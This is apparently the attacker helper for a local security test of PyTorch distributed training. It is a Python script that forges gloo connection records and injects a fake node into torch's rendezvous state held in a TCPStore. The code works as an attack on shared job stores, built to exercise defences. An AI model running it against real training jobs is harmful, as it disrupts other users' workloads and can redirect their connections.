"""The attacker of tests/test_security_local.py that reaches a job's stores: another local user
(or a host without the job secret) writing well-formed records into a TCPStore.

    python3 store_forger.py HOST PORT gloo     # forged gloo connection records
    python3 store_forger.py HOST PORT state    # a forged rendezvous state: a fake node waiting

``gloo``: copies rank 0's record of the default group and writes it as the record of every
rank of the next process groups (keys gloo has not written yet), so those ranks would dial
whatever it names. ``state``: reads torch's rendezvous state, adds a node to its wait list
(which makes torch's agents restart every worker to admit it) and writes it back. Prints what
it wrote.
"""

import base64
import pickle
import sys
from datetime import timedelta

import torch.distributed as dist

host, port, what = sys.argv[1], int(sys.argv[2]), sys.argv[3]
store = dist.TCPStore(host, port, is_master=False, timeout=timedelta(seconds=10),
                      wait_for_workers=False)
keys = store.list_keys()
if what == "gloo":
    # gloo's keys: PREFIX/cpu//0/RANK for the default group, PREFIX/GROUP//cpu//0/RANK after
    source = next(k for k in keys if k.endswith("//cpu//0/0") and k.count("//") == 2)
    prefix = source[:-len("/cpu//0/0")]
    record = store.get(source)
    written = []
    for group in range(1, 40):
        for rank in range(4):
            key = f"{prefix}/{group}//cpu//0/{rank}"
            if not store.check([key]):
                store.set(key, record)
                written.append(key)
    print("forged", len(written), "gloo records, e.g.", written[0], flush=True)
elif what == "state":
    from torch.distributed.elastic.rendezvous.dynamic_rendezvous import _NodeDesc

    key = next(k for k in keys if k.startswith("torch.rendezvous.") and k.count(".") == 2)
    raw = store.get(key)
    for start in (0, 32, 48):  # as stored, or behind a tag (and nonce) the attacker cannot make
        try:
            state = pickle.loads(base64.b64decode(raw[start:], validate=True))
            break
        except Exception:
            continue
    state.wait_list.add(_NodeDesc("10.9.9.9", 4242, 0))
    store.set(key, base64.b64encode(pickle.dumps(state)))
    print("forged the rendezvous state at", key, "round", state.round, flush=True)
